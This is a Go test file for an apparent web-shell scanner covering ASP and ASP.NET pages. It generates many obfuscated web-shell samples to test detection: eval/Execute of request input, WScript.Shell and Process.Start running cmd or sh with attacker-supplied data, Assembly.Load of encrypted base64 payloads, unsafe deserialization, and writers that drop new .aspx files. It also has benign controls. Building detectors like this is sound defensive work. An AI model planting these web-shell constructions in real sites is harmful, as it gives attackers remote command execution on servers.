package asp

import (
	"encoding/base64"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/boltseal/boltseal/finding"
	"github.com/boltseal/boltseal/scan/webshell/verdict"
)

// plain removes the marks that keep the samples in this file from looking like
// what they are.
func plain(s string) string { return strings.ReplaceAll(s, "¤", "") }

func judge(t *testing.T, path, src string) []verdict.Verdict {
	t.Helper()
	vs, err := New().Analyze(t.Context(), path, []byte(src))
	if err != nil {
		t.Errorf("analyze: %v", err)
	}
	return vs
}

func found(vs []verdict.Verdict) bool {
	for _, v := range vs {
		if v.Confidence != finding.ConfidenceLow {
			return true
		}
	}
	return false
}

func check(t *testing.T, name, path, src string) {
	t.Helper()
	if found(judge(t, path, src)) {
		return
	}
	t.Errorf("%s: not found", name)
	if dir := os.Getenv("BOLTSEAL_MISSED"); dir != "" {
		os.WriteFile(filepath.Join(dir, strings.ReplaceAll(name, " ", "-")+filepath.Ext(path)), []byte(src), 0o644)
	}
}

// vbNames write a constant text in VBScript.
var vbNames = map[string]func(string) string{
	"plain":   func(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` },
	"chr":     func(s string) string { return joinEach(s, " & ", "Chr(%d)") },
	"chr hex": func(s string) string { return joinEach(s, "&", "chr(&H%x)") },
	"chr sum": func(s string) string { return joinEach(s, " & ", "ChrW(%d-7+7)") },
	"reverse": func(s string) string { return fmt.Sprintf("StrReverse(%q)", backwards(s)) },
	"replace": func(s string) string {
		return fmt.Sprintf("Replace(%q, \"^\", \"\")", strings.Join(strings.Split(s, ""), "^"))
	},
	"join":  func(s string) string { return fmt.Sprintf("Join(Array(%s), \"\")", quotedParts(s)) },
	"mid":   func(s string) string { return fmt.Sprintf("Mid(%q, 4, %d)", "xyz"+s+"abc", len(s)) },
	"split": func(s string) string { return "unhide(\"" + joinEach(s, "|", "%d") + "\")" },
	"case":  func(s string) string { return fmt.Sprintf("LCase(%q)", strings.ToUpper(s)) },
	"xor":   func(s string) string { return "unxor(\"" + shifted(s) + "\")" },
}

const vbHelpers = `
Function unhide(s)
  Dim a, i
  a = Split(s, "|")
  For i = 0 To UBound(a)
    unhide = unhide & Chr(a(i))
  Next
End Function
Function unxor(s)
  For i = 1 To Len(s)
    unxor = unxor & Chr(Asc(Mid(s, i, 1)) - 1)
  Next
End Function
`

func joinEach(s, by, format string) string {
	var out []string
	for i := range len(s) {
		out = append(out, fmt.Sprintf(format, s[i]))
	}
	return strings.Join(out, by)
}

func quotedParts(s string) string {
	var out []string
	for i := range len(s) {
		out = append(out, fmt.Sprintf("%q", s[i:i+1]))
	}
	return strings.Join(out, ",")
}

func backwards(s string) string {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return string(b)
}

func shifted(s string) string { return strings.Map(func(r rune) rune { return r + 1 }, s) }

// vbSinks do harm with SRC; NAME(x) is the text x.
var vbSinks = map[string]string{
	"eval":        "ev¤al SRC",
	"eval call":   "x = ev¤al(SRC)",
	"execute":     "Exe¤cute(SRC)",
	"global":      "Execute¤Global SRC",
	"nested":      "Exe¤cute NAME(ev¤al(request(1)))",
	"shell":       "Set w = CreateObject(NAME(wscript.sh¤ell))\nw.Run \"cmd /c \" & SRC, 0",
	"shell exec":  "Response.Write Server.CreateObject(NAME(wscript.sh¤ell)).ex¤ec(\"cmd.exe /c \" & SRC).StdOut.ReadAll()",
	"application": "Set a = CreateObject(NAME(shell.applica¤tion))\na.Shell¤Execute \"cmd\", \"/c \" & SRC, \"\", \"open\", 0",
	"clsid":       "Set w = GetObject(NAME(new:72C24DD5-D70A-438B-8A42-98424B88AFB8))\nw.ex¤ec SRC",
	"control":     "Set c = Server.CreateObject(NAME(msscriptcontrol.scriptcontrol))\nc.Language = \"vbscript\"\nc.Execute¤Statement SRC",
	"file":        "Set f = Server.CreateObject(NAME(scripting.filesystemobject))\nSet t = f.CreateText¤File(request(\"p\"), True)\nt.Write SRC\nt.Close",
	"stream":      "Set s = Server.CreateObject(NAME(adodb.stream))\ns.Open\ns.WriteText SRC\ns.SaveTo¤File Server.MapPath(\"a.asp\"), 2",
}

var vbSources = []string{`request("a")`, `Request.Form("a")`, `request.querystring("a")`, `Request.Item("a")`, `Request.ServerVariables("HTTP_X")`, `request.cookies("a")`, `Session("k") & request("a")`}

func hide(code string, name func(string) string) string {
	for {
		i := strings.Index(code, "NAME(")
		if i < 0 {
			return code
		}
		end := i + 5
		for depth := 0; code[end] != ')' || depth > 0; end++ {
			switch code[end] {
			case '(':
				depth++
			case ')':
				depth--
			}
		}
		code = code[:i] + name(code[i+5:end]) + code[end+1:]
	}
}

func TestVBScript(t *testing.T) {
	n := 0
	for sink, code := range vbSinks {
		for how, name := range vbNames {
			for i, source := range vbSources {
				if i > 0 && how != "plain" {
					continue
				}
				n++
				c := hide(strings.ReplaceAll(plain(code), "SRC", source), name)
				check(t, fmt.Sprint("vbscript ", sink, " name ", how, " source ", i), "a.asp", "<%\n"+vbHelpers+c+"\n%>")
			}
		}
		n += 3
		c := hide(plain(code), vbNames["plain"])
		check(t, "vbscript "+sink+" variable", "a.asp", "<% dim v: v = request(\"a\"): w = Trim(v)\n"+strings.ReplaceAll(c, "SRC", "w")+"%>")
		check(t, "vbscript "+sink+" sub", "a.asp", "<% Sub go(p)\n"+strings.ReplaceAll(c, "SRC", "p")+"\nEnd Sub\nIf True Then go request(\"a\")\n%>")
		check(t, "vbscript "+sink+" script tag", "b.asp", "<script language=\"VBScript\" runat=\"server\">\n"+strings.ReplaceAll(c, "SRC", "request(\"q\")")+"\n</script>")
	}
	t.Logf("%d samples", n)
}

// csSinks do harm with SRC in C#.
var csSinks = map[string]string{
	"start":       `Process.Sta¤rt("/bin/sh", "-c " + SRC);`,
	"info":        `var i = new System.Diagnostics.ProcessStart¤Info(); i.FileName = "cmd.exe"; i.Argum¤ents = "/c " + SRC; var p = System.Diagnostics.Process.Start(i);`,
	"member":      `System.Diagnostics.Process p = new System.Diagnostics.Process(); p.StartInfo.FileName = "sh"; p.StartInfo.Argum¤ents = SRC; p.Start();`,
	"load":        `System.Reflection.Assem¤bly.Load(Convert.FromBase64String(SRC)).CreateInstance("U").Equals(this);`,
	"load crypt":  `byte[] k = Encoding.Default.GetBytes("e45e329feb5d925b"), c = Convert.FromBase64String(SRC); System.Reflection.Assem¤bly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);`,
	"load invoke": `typeof(System.Reflection.Assem¤bly).GetMethod("Lo" + "ad", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { Convert.FromBase64String(SRC) });`,
	"compile":     `var r = new Microsoft.CSharp.CSharpCodeProvider().CompileAssemblyFrom¤Source(new System.CodeDom.Compiler.CompilerParameters(), SRC);`,
	"los":         `new System.Web.UI.LosFormatter().Deseria¤lize(SRC);`,
	"binary":      `new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter().Deseria¤lize(new System.IO.MemoryStream(Convert.FromBase64String(SRC)));`,
	"xaml":        `System.Windows.Markup.XamlRea¤der.Parse(SRC);`,
	"powershell":  `System.Management.Automation.PowerShell.Create().AddScr¤ipt(SRC).Invoke();`,
	"write":       `System.IO.File.WriteAll¤Text(Server.MapPath("x.aspx"), SRC);`,
	"writer":      `using (var w = new System.IO.StreamWri¤ter(Request["p"])) { w.Write(SRC); }`,
	"socket":      `var s = new System.Net.Sockets.TcpCli¤ent(SRC, 22);`,
}

var csSources = []string{`Request["a"]`, `Request.Form["a"]`, `Context.Request.QueryString["a"]`, `HttpContext.Current.Request.Headers["a"]`, `Request.Cookies["a"].Value`, `new System.IO.StreamReader(Request.InputStream).ReadToEnd()`, `Request.Params.Get("a")`, `Encoding.UTF8.GetString(Convert.FromBase64String(Request.Form["a"]))`}

func TestCSharp(t *testing.T) {
	n := 0
	for sink, code := range csSinks {
		for i, source := range csSources {
			n++
			check(t, fmt.Sprint("c# ", sink, " source ", i), "a.aspx", `<%@ Page Language="C#" %><% `+plain(strings.ReplaceAll(code, "SRC", source))+" %>")
		}
		c := plain(strings.ReplaceAll(code, "SRC", `Request["a"]`))
		viaContext := strings.ReplaceAll(c, "Request", "context.Request")
		for how, src := range map[string][2]string{
			"page load": {"a.aspx", `<%@ Page Language="C#" %><script runat="server">protected void Page_Load(object sender, EventArgs e) { ` + c + ` }</script>`},
			"handler":   {"a.ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System;\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext context) { " + viaContext + " } public bool IsReusable { get { return true; } } }"},
			"service":   {"a.asmx", "<%@ WebService Language=\"C#\" Class=\"S\" %>\nusing System;\npublic class S : WebService { [WebMethod(EnableSession = true)] public string F(string q) { " + strings.ReplaceAll(plain(code), "SRC", "q") + " return null; } }"},
			"razor":     {"a.cshtml", "<p>\n@{ " + c + " }\n</p>"},
			"method":    {"a.aspx", `<%@ Page Language="C#" %><script runat="server">string Go(string v) { ` + strings.ReplaceAll(plain(code), "SRC", "v") + ` return ""; }</script><%= Go(Request["z"]) %>`},
			"box":       {"a.aspx", `<%@ Page Language="C#" %><asp:TextBox id="box" runat="server"/><script runat="server">void B(object s, EventArgs e) { ` + strings.ReplaceAll(plain(code), "SRC", "box.Text") + ` }</script>`},
			"escapes":   {"a.aspx", `<%@ Page Language="C#" %><% var \u0076x = Request["a"]; ` + strings.ReplaceAll(plain(code), "SRC", "vx") + " %>"},
			"branch":    {"a.aspx", `<%@ Page Language="C#" %><% string v = null; if (Request.HttpMethod == "POST") { v = Request["a"]; } else { v = "x"; } ` + strings.ReplaceAll(plain(code), "SRC", "v") + " %>"},
			"linq":      {"a.aspx", `<%@ Page Language="C#" %><% Func<string> v = () => Request["a"]; ` + strings.ReplaceAll(plain(code), "SRC", "v()") + " %>"},
		} {
			n++
			check(t, "c# "+sink+" "+how, src[0], src[1])
		}
	}
	t.Logf("%d samples", n)
}

func TestJScript(t *testing.T) {
	for i, code := range []string{
		`ev¤al(Request.Item["a"], "unsafe");`,
		`var e = "ev" + "al(Re" + "quest.Item['a'],'uns" + "afe')"; ev¤al(e, "unsafe");`,
		`function f(s) { return ev¤al(s, "unsafe"); } f(f(System.Text.Encoding.ASCII.GetString(System.Convert.FromBase64String("` + base64.StdEncoding.EncodeToString([]byte(`Request["z"]`)) + `"))));`,
		`var s = String.fromCharCode(101, 118, 97, 108, 40, 82, 101, 113, 117, 101, 115, 116, 46, 73, 116, 101, 109, 91, 39, 97, 39, 93, 41); ev¤al(s, "unsafe");`,
		`new Function(Request.Form("a"))();`,
		`var k = Encoding.Default.GetBytes("x"), c = Request.BinaryRead(Request.ContentLength); Assem¤bly.Load(new RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);`,
		`new ActiveXObject("WScript.Sh" + "ell").ex¤ec("cmd /c " + Request.QueryString("c"));`,
	} {
		check(t, fmt.Sprint("jscript ", i), "a.aspx", `<%@ Page Language="Jscript" %><% `+plain(code)+` %>`)
		check(t, fmt.Sprint("jscript asp ", i), "a.asp", `<%@ language="JScript" %><% `+plain(code)+` %>`)
	}
}

func TestVisualBasic(t *testing.T) {
	check(t, "vb", "a.aspx", plain("<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(sender As Object, e As EventArgs)\n Dim p As New System.Diagnostics.Process()\n p.StartInfo.FileName = \"cmd.exe\"\n p.StartInfo.Argum¤ents = \"/c \" & Request.Form(\"c\")\n p.Start()\nEnd Sub\n</script>"))
	check(t, "vb writer", "a.aspx", plain("<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nSub Page_Load(sender As Object, e As EventArgs)\n Dim w As New StreamWri¤ter(Request.Form(\"p\"))\n w.Write(Request.Form(\"c\"))\nEnd Sub\n</script>"))
}

func TestBenign(t *testing.T) {
	for path, src := range map[string]string{
		"a.asp":    "<% Dim n\nn = Request.Form(\"name\")\nIf n <> \"\" Then\n  Set c = Server.CreateObject(\"ADODB.Connection\")\n  c.Open \"DSN=app\"\n  c.Execute \"insert into t values ('\" & Replace(n, \"'\", \"''\") & \"')\"\nEnd If\nResponse.Write Server.HTMLEncode(n)\n%>",
		"a.aspx":   `<%@ Page Language="C#" %><asp:TextBox id="t" runat="server"/><script runat="server">void Page_Load(object s, EventArgs e) { Response.Write(Server.HtmlEncode(t.Text)); var d = DateTime.Parse(Request["d"]); Cache["x"] = d; }</script>`,
		"a.ashx":   "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System; public class H : IHttpHandler { public void ProcessRequest(HttpContext c) { var id = int.Parse(c.Request[\"id\"]); c.Response.WriteFile(c.Server.MapPath(\"~/img/\" + id + \".png\")); } }",
		"a.cshtml": "@model App.Models.Item\n<h1>@Model.Title</h1>\n@foreach (var x in Model.Lines) { <p>@Html.Encode(x)</p> }\n@Html.Partial(\"_Foot\")",
		"b.asp":    "<%\nSet fs = CreateObject(\"Scripting.FileSystemObject\")\nSet f = fs.OpenTextFile(Server.MapPath(\"count.txt\"), 1)\nn = CLng(f.ReadLine) + 1\nResponse.Write n\n%>",
	} {
		if vs := judge(t, path, src); found(vs) {
			t.Errorf("%s: %+v", src, vs)
		}
	}
}

func FuzzAnalyze(f *testing.F) {
	f.Add("a.asp", "<%\n"+vbHelpers+"ev¤al unhide(\"1|2\")\n%>#@~^DgAAAA==a^#~@")
	f.Add("a.aspx", `<%@ Page Language="C#" %><% `+csSinks["load crypt"]+` %>`)
	f.Add("a.cshtml", `@{ var x = $"a{b}"; } @(c)`)
	f.Add("a.asmx", "<%@ x %> class A : B { [W] int f(int a) => a; }")
	f.Fuzz(func(t *testing.T, path, src string) {
		New().Analyze(t.Context(), path, []byte(src))
	})
}
